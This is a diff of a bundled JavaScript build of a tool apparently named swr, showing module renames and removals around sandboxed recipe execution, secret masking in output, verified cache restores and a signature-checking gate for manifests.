-        push: chunk => take(decoder.write(chunk)),
-        end: () => {
-            take(decoder.end());
-            if (partial)
-                onLine(partial);
-            partial = '';
-        }
-    };
-}
-/** The last `maxBytes` bytes of output, kept as whole lines. */
-function tailKeeper(maxBytes) {
-    const lines = [];
-    const sizes = [];
-    let head = 0;
-    let bytes = 0;
-    let cut = false;
-    return {
-        add(line) {
-            let l = line + '\n';
-            let n = Buffer.byteLength(l);
-            if (n > maxBytes) {
-                // One line longer than the whole budget: keep its end.
-                l = Buffer.from(l)
-                    .subarray(n - maxBytes)
-                    .toString('utf8')
-                    .replace(/^\uFFFD+/, '');
-                n = Buffer.byteLength(l);
-                cut = true;
-            }
-            lines.push(l);
-            sizes.push(n);
-            bytes += n;
-            while (bytes > maxBytes && head < lines.length) {
-                bytes -= sizes[head] ?? 0;
-                head++;
-                cut = true;
-            }
-            if (head > 1024 && head * 2 > lines.length) {
-                lines.splice(0, head);
-                sizes.splice(0, head);
-                head = 0;
-            }
-        },
-        text: () => lines.slice(head).join(''),
-        truncated: () => cut
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/run/recipe.ts
-/**
- * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
- * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
- * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
- * A process that left the group (`setsid`) is found by the run token in its environment, stopped
- * and reported; and once the recipe's own process has exited, swr waits at most a grace period
- * for the output pipes such a process may hold open.
- * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
- */
-
-
-
-const KEEP_BYTES = 64 * 1024;
-const DEFAULT_GRACE_MS = 3000;
-const BASE_ENV_NAMES = ['PATH', 'HOME', 'LANG', 'TMPDIR'];
-/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
-function minimalEnv(from, names) {
-    const env = {};
-    for (const n of [...BASE_ENV_NAMES, ...names]) {
-        const v = from[n];
-        if (v !== undefined)
-            env[n] = v;
-    }
-    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
-    return env;
-}
-function killGroup(pid, signal) {
-    try {
-        process.kill(-pid, signal);
-    }
-    catch {
-        // Already gone.
-    }
-}
-function runRecipe(spec, hooks) {
-    const started = performance.now();
-    const [cmd, ...args] = spec.shell;
-    const token = newRunToken();
-    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
-    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
-    if (unusable !== undefined)
-        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
-    return new Promise(resolve => {
-        const child = (0,external_node_child_process_namespaceObject.spawn)(cmd ?? 'bash', [...args, spec.command], {
-            cwd: spec.cwd,
-            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
-            detached: true, // its own process group, so the whole group can be stopped
-            stdio: ['ignore', 'pipe', 'pipe']
-        });
-        const kept = tailKeeper(KEEP_BYTES);
-        let timedOut = false;
-        let interrupted = false;
-        let exited;
-        const emit = (line) => {
-            const clean = hooks.scrub(line);
-            hooks.onLine?.(spec.id, clean);
-            kept.add(clean);
-        };
-        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
-        const out = lineSplitter(emit, KEEP_BYTES);
-        const err = lineSplitter(emit, KEEP_BYTES);
-        child.stdout.on('data', out.push);
-        child.stderr.on('data', err.push);
-        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
-        let killer;
-        const stop = () => {
-            if (child.pid === undefined || killer)
-                return;
-            killGroup(child.pid, 'SIGTERM');
-            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
-        };
-        const timer = setTimeout(() => {
-            timedOut = true;
-            stop();
-        }, spec.timeoutMs);
-        const onAbort = () => {
-            interrupted = true;
-            stop();
-        };
-        hooks.abort?.addEventListener('abort', onAbort, { once: true });
-        if (hooks.abort?.aborted)
-            onAbort();
-        let finished = false;
-        let pipeTimer;
-        const finish = async () => {
-            if (finished)
-                return;
-            finished = true;
-            clearTimeout(timer);
-            clearTimeout(pipeTimer);
-            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
-            // return, not on a timer that a finished swr would never fire.
-            if (child.pid !== undefined)
-                await reapGroup(child.pid, grace);
-            if (killer)
-                clearTimeout(killer);
-            const escaped = await killTagged(token, Math.min(grace, 1000));
-            if (escaped.length > 0)
-                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
-                    .map(p => `${p.pid} (${p.name})`)
-                    .join(', ')}`);
-            child.stdout.destroy();
-            child.stderr.destroy();
-            hooks.abort?.removeEventListener('abort', onAbort);
-            out.end();
-            err.end();
-            resolve({
-                id: spec.id,
-                exitCode: exited?.code ?? null,
-                signal: exited?.signal ?? null,
-                timedOut,
-                interrupted,
-                ms: Math.round(performance.now() - started),
-                output: kept.text(),
-                truncated: kept.truncated(),
-                escaped
-            });
-        };
-        child.on('error', err => {
-            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
-            exited = { code: 127, signal: null };
-            void finish();
-        });
-        child.on('exit', (code, signal) => {
-            exited = { code, signal };
-            // Background processes the recipe left behind go with it (and release the output pipes).
-            if (child.pid !== undefined && groupAlive(child.pid))
-                stop();
-            // A process outside the group may hold the pipes open for ever: stop waiting for them.
-            pipeTimer = setTimeout(() => void finish(), grace + 500);
-        });
-        child.on('close', () => void finish());
-    });
-}
-function notStarted(spec, why) {
-    const line = `cannot start: ${why}`;
-    return {
-        id: spec.id,
-        exitCode: 127,
-        signal: null,
-        timedOut: false,
-        interrupted: false,
-        ms: 0,
-        output: `${line}\n`,
-        truncated: false,
-        escaped: [],
-        startError: why
-    };
-}
-function groupAlive(pgid) {
-    try {
-        process.kill(-pgid, 0);
-        return true;
-    }
-    catch {
-        return false;
-    }
-}
-/**
- * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
- * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
- */
-async function reapGroup(pgid, grace) {
-    if (!groupAlive(pgid))
-        return;
-    killGroup(pgid, 'SIGTERM');
-    const deadline = Date.now() + grace;
-    while (groupAlive(pgid) && Date.now() < deadline)
-        await new Promise(r => setTimeout(r, 25));
-    killGroup(pgid, 'SIGKILL');
-}
-/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
-function describeResult(r, timeoutMs) {
-    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
-}
-function describeEnd(r, timeoutMs) {
-    const secs = (r.ms / 1000).toFixed(1);
-    if (r.startError)
-        return `not started: ${r.startError}`;
-    if (r.interrupted)
-        return `interrupted after ${secs} s`;
-    if (r.timedOut)
-        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
-    if (r.signal)
-        return `killed by ${r.signal} after ${secs} s`;
-    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
-}
-function describeEscaped(escaped) {
-    if (escaped.length === 0)
-        return '';
-    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
-    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
-}
-
-;// CONCATENATED MODULE: ./src/core/run/scrub.ts
-/**
- * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
- * variables an entry marks secret, and token shapes that are secrets wherever they appear.
- */
-const TOKEN_SHAPES = [
-    /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, // GitHub tokens
-    /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g,
-    /\bglpat-[A-Za-z0-9_-]{20,}\b/g, // GitLab
-    /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, // Slack
-    /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, // AWS access key ids
-    /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, // OpenAI / Anthropic style keys
-    /\bhf_[A-Za-z0-9]{30,}\b/g, // Hugging Face
-    /\bnpm_[A-Za-z0-9]{36}\b/g,
-    /\bAIza[0-9A-Za-z_-]{35}\b/g, // Google API keys
-    /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, // JWTs
-    /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
-    /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi // password in a URL
-];
-const MASK = '***';
-/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
-function scrub_hasTokenShape(text) {
-    // search() ignores the patterns' global state, so the shared regexes stay reusable.
-    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
-}
-/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
-const MIN_SECRET = 4;
-/**
- * What to mask for these secret values: each whole value and, since output is read and masked
- * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
- * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
- */
-function secretPieces(secretValues) {
-    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
-    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
-}
-/** A scrubber for these secret values (pieces shorter than 4 characters are not masked). */
-function makeScrubber(secretValues) {
-    const values = secretPieces(secretValues);
-    return text => {
-        let out = text;
-        for (const v of values)
-            out = out.split(v).join(MASK);
-        for (const re of TOKEN_SHAPES)
-            out = out.replace(re, MASK);
-        return out;
-    };
-}
-/** `value` with every string in it scrubbed (a report before it is written or printed). */
-function scrubDeep(value, scrub) {
-    if (typeof value === 'string')
-        return scrub(value);
-    if (Array.isArray(value))
-        return value.map(v => scrubDeep(v, scrub));
-    if (value !== null && typeof value === 'object')
-        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
-    return value;
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-port.ts
-/**
- * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
- * real cache service when it is reachable. The port only finds and streams an archive; it never
- * unpacks one. The engine extracts it itself into a private scratch directory, proves it against
- * the signed manifest while extracting, and only then places it (see cache-restore/), so a
- * partial, stale or poisoned cache can neither pass for the recorded state nor write anywhere.
- */
-
-
-/**
- * The key under which an entry's verified state is saved: its id plus the digest of its signed
- * expectations. Another state of the entry (or another manifest's entry) has another key.
- */
-function stateKey(e) {
-    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
-    return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-restore/rejected.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/rejected.ts
 /** Why a cache archive was refused: one line, ready for the report (names are escaped by the caller). */
 class Rejected extends Error {
     constructor(message) {
@@ -41487,7 +42169,7 @@ class Rejected extends Error {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/cache-restore/tar-reader.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/tar-reader.ts
 /**
  * A push parser for the tar archives the Actions cache holds (POSIX pax as `tar --posix` writes
  * them, plain ustar, and GNU long names). It only reads: every member is handed to a sink that
@@ -41697,7 +42379,7 @@ class TarReader {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/cache-restore/extract.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/extract.ts
 /**
  * Unpacking one entry's cache archive into a private scratch directory, member by member, under the
  * entry's signed expectations: every name must lie inside the entry's own path (as the cache client
@@ -41759,7 +42441,7 @@ class EntryExtractor {
         this.want = want;
         if (want.kind === 'indexed') {
             this.records = new Map(want.records.map(r => [r.rel, r]));
-            this.ignored = ignoreMatcher(want.ignore);
+            this.ignored = ignore_rules_ignoreMatcher(want.ignore);
             const total = want.records.reduce((n, r) => n + r.size, 0);
             // Ignored members are skipped unwritten; they may not outgrow the tree itself.
             this.maxSkipped = Math.max(64 * 1024 * 1024, Math.ceil(total / 10));
@@ -41874,7 +42556,7 @@ class EntryExtractor {
             if (m.size !== w.size)
                 throw new Rejected(`size ${m.size}, recorded ${w.size}`);
             if (m.mode !== w.mode)
-                throw new Rejected(`mode ${octal(m.mode)}, recorded ${octal(w.mode)}`);
+                throw new Rejected(`mode ${mode_octal(m.mode)}, recorded ${mode_octal(w.mode)}`);
             return;
         }
         if (w.kind === 'bounded') {
@@ -41898,7 +42580,7 @@ class EntryExtractor {
         if (type === 'f' && m.type === 'file' && m.size !== r.size)
             throw new Rejected(`${shown(at.rel)}: size ${m.size}, recorded ${r.size}`);
         if (type !== 'l' && m.mode !== r.mode)
-            throw new Rejected(`${shown(at.rel)}: mode ${octal(m.mode)}, recorded ${octal(r.mode)}`);
+            throw new Rejected(`${shown(at.rel)}: mode ${mode_octal(m.mode)}, recorded ${mode_octal(r.mode)}`);
         if (type === 'l' && m.linkname !== r.extra)
             throw new Rejected(`${shown(at.rel)}: link target differs from the recorded one`);
     }
@@ -42000,7 +42682,7 @@ class EntryExtractor {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/cache-restore/place.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/place.ts
 /**
  * Moving a proven entry from scratch into the workspace: every parent between the workspace and
  * the target must be a real directory (a link planted in the workspace is refused, not followed),
@@ -42081,7 +42763,7 @@ function isLink(p) {
 
 // EXTERNAL MODULE: external "node:stream"
 var external_node_stream_ = __nccwpck_require__(7075);
-;// CONCATENATED MODULE: ./src/core/cache-restore/unpack.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/unpack.ts
 /**
  * Streaming one compressed cache archive through decompression into the tar reader, stopping the
  * download as soon as the reader refuses a member or has read the end of the archive. zstd is
@@ -42168,7 +42850,7 @@ function oneLine(err) {
     return text.split('\n')[0]?.slice(0, 200) ?? '';
 }
 
-;// CONCATENATED MODULE: ./src/core/cache-restore/restore.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/restore.ts
 /**
  * One cache restore of one entry, end to end: a fresh private scratch directory, the archive
  * streamed into it under the entry's signed expectations (extract.ts), the scratch copy proven
@@ -42295,7 +42977,7 @@ function removeScratch(dir) {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/repair.ts
+;// CONCATENATED MODULE: ./src/core/restore/runner.ts
 /**
  * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
  * from its source (escrow, then recipe), each restored entry re-verified at once without the
@@ -42317,9 +42999,9 @@ function removeScratch(dir) {
 
 const DEFAULT_TIMEOUT_S = 1800;
 const DEFAULT_SHELL = ['bash', '-c'];
-async function runRepair(opts) {
+async function runPlan(opts) {
     if (!opts.gate.allowed)
-        throw new InternalError('runRepair called without an allowed gate decision');
+        throw new InternalError('runPlan called without an allowed gate decision');
     const entries = new Map(opts.manifest.body.entries.map(e => [e.id, e]));
     const results = new Map();
     const limit = pLimit(Math.max(1, opts.jobs ?? 1));
@@ -42358,7 +43040,7 @@ function sourcesFor(entry, cache) {
     const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
     if (cache)
         out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], auto: true });
-    for (const src of restoreSources(entry)) {
+    for (const src of types_restoreSources(entry)) {
         out.push(typeof src === 'string'
             ? { kind: 'recipe', command: src }
             : {
@@ -42565,308 +43247,6 @@ async function trySource(src, entry, opts) {
             return { recipe, attempt: { source: 'recipe', outcome: 'healed', detail: how } };
         }
     }
-}
-
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
-;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
-/**
- * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
- * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
- * type, and with it the manifest format and the signature-format version:
- *   "DSSEv1" SP len(type) SP type SP len(body) SP body
- */
-
-const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
-/** DSSE pre-authentication encoding of `payload` under `type`. */
-function pae(type, payload) {
-    const t = Buffer.from(type, 'utf8');
-    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
-    return Buffer.concat([head, payload]);
-}
-/** The exact bytes every manifest signature covers. */
-function signingInput(body, type = PAYLOAD_TYPE) {
-    return pae(type, canonicalBytes(body));
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
-/**
- * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
- * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
- * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
- * never from the workspace. Comparison is constant-time.
- */
-
-/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
-function hmacKeyId(key) {
-    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
-}
-function signHmac(key, input) {
-    return {
-        alg: 'hmac-sha256',
-        keyid: hmacKeyId(key),
-        sig: createHmac('sha256', key).update(input).digest('hex')
-    };
-}
-function verifyHmac(key, input, sig) {
-    if (!/^[0-9a-f]{64}$/.test(sig.sig))
-        return false;
-    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
-    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
-}
-/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
-function parseHmacKey(text) {
-    const t = text.trim();
-    if (/^[0-9a-fA-F]{64}$/.test(t))
-        return Buffer.from(t, 'hex');
-    if (t.length >= 32)
-        return Buffer.from(t, 'utf8');
-    return undefined;
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
-/**
- * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
- * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
- * manifest never pays for it. The public key travels with the signature; its fingerprint is always
- * recomputed from the key, never read from the document.
- */
-
-/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
-const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
-const PUBLIC_KEY_BYTES = 2592;
-const SIGNATURE_BYTES = 4627;
-let loaded;
-async function mldsa() {
-    loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
-    return loaded;
-}
-/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
-function fingerprint(publicKey) {
-    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
-}
-/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
-function groupFingerprint(fp) {
-    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
-}
-function mldsa_normalizeFingerprint(text) {
-    const t = text.replace(/[\s:-]/g, '').toLowerCase();
-    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
-}
-async function identityFromSeed(seed) {
-    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
-    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
-}
-async function signMldsa(id, input) {
-    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
-    return {
-        alg: 'ml-dsa-87',
-        keyid: id.fingerprint,
-        public_key: Buffer.from(id.publicKey).toString('base64'),
-        sig: Buffer.from(sig).toString('base64')
-    };
-}
-/** Decoded key and signature, or undefined when either is malformed (never throws). */
-function decodeMldsa(s) {
-    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
-    if (!b64.test(s.public_key) || !b64.test(s.sig))
-        return undefined;
-    const publicKey = Buffer.from(s.public_key, 'base64');
-    const sig = Buffer.from(s.sig, 'base64');
-    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
-        return undefined;
-    return { publicKey, sig };
-}
-async function verifyMldsa(publicKey, input, sig) {
-    try {
-        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
-    }
-    catch {
-        return false;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/gate.ts
-/**
- * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
- * commands, exported scripts) may run. Every path that executes manifest content asks it first.
- *
- *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
- *
- * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
- * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
- * shells never pass anything but the default.
- */
-
-
-
-
-
-const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
-const ALL_DEFENSES = Object.freeze({
-    signatures: true,
-    trust: true,
-    fingerprintFromKey: true,
-    payloadType: true,
-    expiry: true,
-    scope: true,
-    rollback: true
-});
-/** What the gate reads of a loaded manifest. */
-function gateInput(m) {
-    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
-}
-/** Each signature's state under `policy` (no decision). */
-async function evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
-    const raw = defenses.payloadType ? signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
-    const out = [];
-    for (const s of m.signatures) {
-        if (s.alg === 'hmac-sha256') {
-            if (!policy.hmacKey)
-                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
-            else {
-                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
-                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
-            }
-            continue;
-        }
-        const decoded = decodeMldsa(s);
-        if (!decoded) {
-            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
-            continue;
-        }
-        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
-        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
-        const trusted = !defenses.trust || policy.trusted.has(fp);
-        out.push({
-            alg: s.alg,
-            keyid: s.keyid,
-            fingerprint: fp,
-            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
-        });
-    }
-    return out;
-}
-/** May this manifest's code run? */
-async function decide(m, policy, defenses = ALL_DEFENSES) {
-    const refuse = (reason, signatures = []) => ({
-        allowed: false,
-        reason,
-        signatures,
-        warnings: []
-    });
-    const body = m.body;
-    if (defenses.expiry &&
-        body.expires !== undefined &&
-        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
-    ) {
-        return refuse(`manifest expired at ${body.expires}`);
-    }
-    if (defenses.scope) {
-        const scopeProblem = checkScope(body, policy.run);
-        if (scopeProblem)
-            return refuse(scopeProblem);
-    }
-    if (defenses.rollback) {
-        const rollback = checkRollback(body.version, m.digest, policy);
-        if (rollback)
-            return refuse(rollback);
-    }
-    if (policy.approveDigest !== undefined) {
-        if (policy.approveDigest.toLowerCase() !== m.digest) {
-            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
-        }
-        return {
-            allowed: true,
-            reason: 'signature requirement waived for this exact digest',
-            signatures: await evaluateSignatures(m, policy, defenses),
-            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
-        };
-    }
-    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
-    const states = await evaluateSignatures(m, policy, defenses);
-    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
-    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
-    const threshold = policy.threshold ?? 1;
-    const mldsaOk = signers.size >= threshold;
-    const need = describeNeed(policy.require, threshold);
-    const ok = policy.require === 'any'
-        ? hmacOk || mldsaOk
-        : policy.require === 'hmac'
-            ? hmacOk
-            : policy.require === 'mldsa'
-                ? mldsaOk
-                : hmacOk && mldsaOk;
-    if (!ok)
-        return refuse(`${summarise(states, policy)}; ${need} required`, states);
-    const by = [
-        hmacOk ? 'HMAC' : '',
-        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
-    ].filter(Boolean);
-    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
-}
-function describeNeed(r, threshold) {
-    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
-    switch (r) {
-        case 'any':
-            return `a valid HMAC or ${ml}`;
-        case 'hmac':
-            return 'a valid HMAC signature';
-        case 'mldsa':
-            return ml;
-        case 'both':
-            return `a valid HMAC and ${ml}`;
-    }
-}
-function summarise(states, policy) {
-    if (states.length === 0)
-        return 'manifest is unsigned';
-    const parts = states.map(s => {
-        const who = s.alg === 'hmac-sha256'
-            ? 'HMAC'
-            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
-        if (s.state === 'no-key')
-            return `${who}: no HMAC key on this run`;
-        if (s.state === 'invalid' &&
-            s.alg === 'hmac-sha256' &&
-            policy.hmacKey &&
-            s.keyid !== hmacKeyId(policy.hmacKey)) {
-            return `${who}: made with another key`;
-        }
-        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
-    });
-    return parts.join(', ');
-}
-function checkScope(body, run) {
-    const scope = body.scope;
-    if (!scope)
-        return undefined;
-    if (scope.repository !== undefined &&
-        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
-        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
-    }
-    if (scope.ref !== undefined &&
-        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
-        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
-    }
-    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
-        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
-    }
-    return undefined;
-}
-function checkRollback(version, digest, policy) {
-    if (policy.minVersion !== undefined && version < policy.minVersion) {
-        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
-    }
-    const r = policy.remembered;
-    if (r && version < r.version) {
-        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
-    }
-    if (r && version === r.version && digest !== r.digest) {
-        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
-    }
-    return undefined;
 }
 
 // EXTERNAL MODULE: ./node_modules/proper-lockfile/index.js
@@ -43176,7 +43556,7 @@ function openJournal(stateDir, workspace, digest, now, resume) {
     };
 }
 
-;// CONCATENATED MODULE: ./src/core/doctor.ts
+;// CONCATENATED MODULE: ./src/core/engine/repair.ts
 /**
  * restore and doctor as one engine call, shared by the CLI and the Action:
  *
@@ -43197,22 +43577,23 @@ function openJournal(stateDir, workspace, digest, now, resume) {
 
 
 
-
 async function repairManifest(m, opts) {
     const hooks = opts.hooks ?? {};
-    const check = (cache, known) => checkManifest(m, {
+    const verify = (cache, known) => verifySelection(m, {
         only: opts.only,
         known,
         cache,
         stateDir: opts.stateDir,
         version: opts.version,
-        command: opts.mode,
-        jobs: opts.jobs
+        jobs: opts.jobs,
+        nativeWalk: opts.nativeWalk
     });
-    const before = await check(opts.cache !== false);
-    const plan = planRepair(m.body.entries, before.results);
+    const reportFor = (c) => reportOf(m, c, { version: opts.version, command: opts.mode });
+    const first = await verify(opts.cache !== false);
+    const before = reportFor(first);
+    const plan = planRepair(m.body.entries, first.findings);
     hooks.onCheck?.(before, plan);
-    const finish = (outcome, code, steps, final, gate, harmed = []) => {
+    const finish = (outcome, steps, final, gate, harmed = []) => {
         const repair = {
             mode: opts.mode,
             dry_run: opts.dryRun === true,
@@ -43229,18 +43610,18 @@ async function repairManifest(m, opts) {
             ...(harmed.length > 0 ? { collateral: harmed } : {}),
             write_back: writeBack(m, steps),
             outcome,
-            exit_code: code
+            exit_code: repairOutcome(outcome).exitCode
         };
         return { ...final, repair };
     };
     if (before.verdict === 'healthy')
-        return finish('healthy', errors_EXIT.HEALTHY, [], before);
+        return finish('healthy', [], before);
     if (opts.dryRun)
-        return finish('damaged', errors_EXIT.DAMAGED, [], before);
-    const gate = await decide(gateInput(m), opts.policy);
+        return finish('damaged', [], before);
+    const gate = await gate_decide(gate_gateInput(m), opts.policy);
     hooks.onGate?.(gate);
     if (!gate.allowed)
-        return finish('refused', errors_EXIT.UNREPAIRABLE, [], before, gate);
+        return finish('refused', [], before, gate);
     if (opts.rememberAccepted)
         remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
     const resumed = opts.resume ? resumeState(opts.stateDir, m.workspace, m.digest) : undefined;
@@ -43248,13 +43629,14 @@ async function repairManifest(m, opts) {
     if (resumed)
         hooks.onResume?.(already.size, resumed.interrupted);
     const journal = openJournal(opts.stateDir, m.workspace, m.digest, new Date(), opts.resume === true);
-    const steps = await runRepair({
+    const reverify = { stateDir: opts.stateDir, jobs: opts.jobs, nativeWalk: opts.nativeWalk };
+    const steps = await runPlan({
         manifest: m,
         plan,
         gate,
         callerEnv: opts.callerEnv,
-        reverify: reverifier(m, opts.stateDir, opts.jobs),
-        reverifyAt: scratchVerifier(m, opts.stateDir, opts.jobs),
+        reverify: reverifier(m, reverify),
+        reverifyAt: scratchVerifier(m, reverify),
         jobs: opts.jobs ?? 1,
         timeoutS: opts.timeoutS,
         quarantine: opts.quarantine ? { stateDir: opts.stateDir, ...opts.quarantineLimits } : undefined,
@@ -43275,22 +43657,21 @@ async function repairManifest(m, opts) {
         : []));
